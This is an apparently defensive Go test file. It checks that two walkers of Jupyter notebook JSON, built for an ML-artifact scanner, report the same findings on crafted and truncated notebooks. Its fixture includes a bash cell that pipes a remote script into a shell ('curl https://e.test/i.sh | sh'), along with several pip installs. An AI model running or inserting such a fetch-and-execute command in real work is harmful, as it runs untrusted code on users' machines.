package pins

import (
	"bytes"
	"encoding/json"
	"reflect"
	"sort"
	"testing"

	"github.com/mlwarden/mlwarden/scanners"
)

// scanNotebookV1 is scanNotebook as it was written on encoding/json's
// Decoder.Token, kept as the oracle of FuzzNotebook and
// TestNotebookWalkersAgree: the faster walk must report every input alike.
func scanNotebookV1(data []byte, r *rep) {
	lines := lineStarts(data)
	lineAt := func(off int64) int { return sort.SearchInts(lines, int(off)+1) }
	type frame struct {
		obj       bool
		key       string
		expectKey bool
	}
	type cell struct {
		typ   string
		src   []string
		lines []int
	}
	var stack []frame
	var cur *cell
	st := newShellState()
	defer st.finish()
	dec := json.NewDecoder(bytes.NewReader(data))
	for {
		tok, err := dec.Token()
		if err != nil {
			// The end, or a truncated or broken notebook: checked as far as
			// it parsed, including the cell it stopped in.
			if cur != nil && cur.typ == "code" {
				notebookCell(cur.src, cur.lines, r, st)
			}
			return
		}
		end := dec.InputOffset()
		// Path: {cells: [ {cell_type, source: [ "…", … ] } ] }
		inCells := len(stack) >= 2 && stack[0].key == "cells" && !stack[1].obj
		switch t := tok.(type) {
		case json.Delim:
			switch t {
			case '{', '[':
				if len(stack) > 0 && stack[len(stack)-1].obj {
					stack[len(stack)-1].expectKey = true
				}
				stack = append(stack, frame{obj: t == '{', expectKey: t == '{'})
				if t == '{' && len(stack) == 3 && inCells {
					cur = &cell{}
				}
			case '}', ']':
				if len(stack) == 3 && inCells && cur != nil {
					if cur.typ == "code" {
						notebookCell(cur.src, cur.lines, r, st)
					}
					cur = nil
				}
				if len(stack) > 0 {
					stack = stack[:len(stack)-1]
				}
				if len(stack) > 0 && stack[len(stack)-1].obj {
					stack[len(stack)-1].expectKey = true
				}
			}
			continue
		case string:
			top := len(stack) - 1
			if top >= 0 && stack[top].obj && stack[top].expectKey {
				stack[top].key, stack[top].expectKey = t, false
				continue
			}
			if cur != nil && inCells {
				switch {
				case len(stack) == 3 && stack[2].key == "cell_type":
					cur.typ = t
				case len(stack) == 3 && stack[2].key == "source",
					len(stack) == 4 && stack[2].key == "source" && !stack[3].obj:
					cur.src = append(cur.src, t)
					cur.lines = append(cur.lines, lineAt(end-1))
				}
			}
		}
		if top := len(stack) - 1; top >= 0 && stack[top].obj {
			stack[top].expectKey = true
		}
	}
}

// notebookWalkersAgree fails t when the two walks report data differently.
func notebookWalkersAgree(t *testing.T, data []byte) {
	t.Helper()
	run := func(walk func([]byte, *rep)) []scanners.Finding {
		s := &sink{a: &scanners.Artifact{Kind: scanners.ArtifactFile, Path: "nb.ipynb"}, seen: map[string]bool{}}
		walk(data, s.whole())
		return s.list
	}
	if got, want := run(scanNotebook), run(scanNotebookV1); !reflect.DeepEqual(got, want) {
		t.Fatalf("walks disagree on %q:\nnow %+v\nencoding/json %+v", data, got, want)
	}
}

// TestNotebookWalkersAgree: cells among skipped outputs and metadata,
// notebooks cut inside what is skipped and inside a cell, sources that are
// not strings, cells that are not objects.
func TestNotebookWalkersAgree(t *testing.T) {
	nb := `{"metadata":{"kernelspec":{"name":"python3"},"x":[1,{"cells":[{"cell_type":"code","source":"!pip install hidden\n"}]}]},` +
		`"cells":[{"cell_type":"code","execution_count":1,"metadata":{"source":"!pip install no"},"source":["!pip install a\n","import torch\n","torch.hub.load('x/y', 'm')\n"],` +
		`"outputs":[{"output_type":"display_data","data":{"image/png":"iVBORw0KGgo=","text/plain":["!pip install b"]}}]},` +
		`{"cell_type":"markdown","source":"!pip install c"},{"source":["%%bash\n","curl https://e.test/i.sh | sh\n"],"cell_type":"code"},` +
		`"x",[1,2],{"cell_type":"code","source":[1,{"a":[]},"%pip install d\n"]}],"nbformat":4}`
	inputs := []string{nb, `{"cells":{"0":{"cell_type":"code","source":"!pip install e"}}}`, `[{"cells":[]}]`, `{"a":}`, `{"cells":[{"cell_type":"code","source":"!pip install f","outputs":}]}`}
	for i := 1; i < len(nb); i += 7 {
		inputs = append(inputs, nb[:i])
	}
	for _, in := range inputs {
		notebookWalkersAgree(t, []byte(in))
	}
}
